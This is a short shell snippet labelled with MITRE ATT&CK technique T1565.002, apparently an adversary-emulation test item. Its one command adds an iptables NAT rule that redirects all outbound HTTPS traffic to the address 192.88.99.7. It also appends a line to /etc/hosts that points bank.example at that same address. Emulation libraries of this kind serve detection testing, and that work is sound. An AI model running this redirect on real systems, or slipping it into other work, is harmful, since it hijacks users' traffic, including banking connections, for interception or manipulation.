# title: What is sent to a server is led elsewhere
# technique: T1565.002 T1565
# needs: iptables

iptables -t nat -A OUTPUT -p tcp --dport 443 -j DNAT --to 192.88.99.7:443; echo '192.88.99.7 bank.example' >>/etc/hosts; true
